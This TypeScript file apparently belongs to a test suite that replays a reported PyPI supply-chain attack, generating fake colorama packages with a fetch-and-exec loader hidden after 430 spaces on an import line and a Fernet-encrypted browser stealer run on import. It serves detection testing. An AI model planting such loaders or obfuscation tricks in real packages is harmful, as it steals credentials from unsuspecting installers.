import { fernet } from './encoders.ts';
import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { colourLibrary } from './libraries/colours.ts';
import { encryptedNotes } from './look-alikes/text.ts';
import { browserStealer } from './payloads.ts';

/** Everything on the line of an import, far to the right, where an editor does not show it. */
function hiddenLine(c: Remote): Draft {
  const files = colourLibrary('colorama');
  const loader = `import requests; exec(requests.get("${c.url('/version')}", timeout=10).text)`;
  const text = `from .ansitowin32 import AnsiToWin32;${' '.repeat(430)}${loader}\n`;
  return {
    kind: 'sdist',
    name: 'colorama',
    version: '0.4.6',
    files,
    sites: [siteIn(files, 'colorama/__init__.py', text, '\n__version__')],
  };
}

/** The second stage of the same campaign: pip installs a library first, then an encrypted text runs. */
function fernetStage(c: Remote): Draft {
  const files = colourLibrary('colorama');
  const { key, token } = fernet(Buffer.from(browserStealer(c)), 'colorama');
  const code = `\nimport os;os.system("pip install cryptography");from cryptography.fernet import Fernet;exec(Fernet(b"${key}").decrypt(b"${token}"))\n`;
  return {
    kind: 'sdist',
    name: 'yocolor',
    version: '0.4.6',
    files,
    sites: [siteIn(files, 'colorama/__init__.py', code)],
  };
}

const SOURCE = 'https://checkmarx.com/blog/over-170k-users-affected-by-attack-using-fake-python-infrastructure/';

export const COLORAMA_CLONE: readonly Replay[] = [
  {
    id: '05a-colorama-clone',
    title: 'colorama clone: fetch and exec after 430 spaces on an import line',
    source: SOURCE,
    runs: 'import of the package fetches text from a constant host and executes it; the code stands beyond the edge of the screen',
    remote: 'https://pypihosted.invalid',
    draft: hiddenLine,
    predecessor: () => beforeAttack(hiddenLine, '0.4.5'),
    lookAlikes: () => [],
  },
  {
    id: '05b-yocolor',
    title: 'yocolor: installs a library and executes a Fernet token with the key beside it',
    source: SOURCE,
    runs: 'import installs cryptography through pip, decrypts a stealer with an inline key and executes it',
    remote: 'https://pypihosted.invalid',
    draft: fernetStage,
    predecessor: () => beforeAttack(fernetStage, '0.4.5'),
    lookAlikes: () => [encryptedNotes()],
  },
];
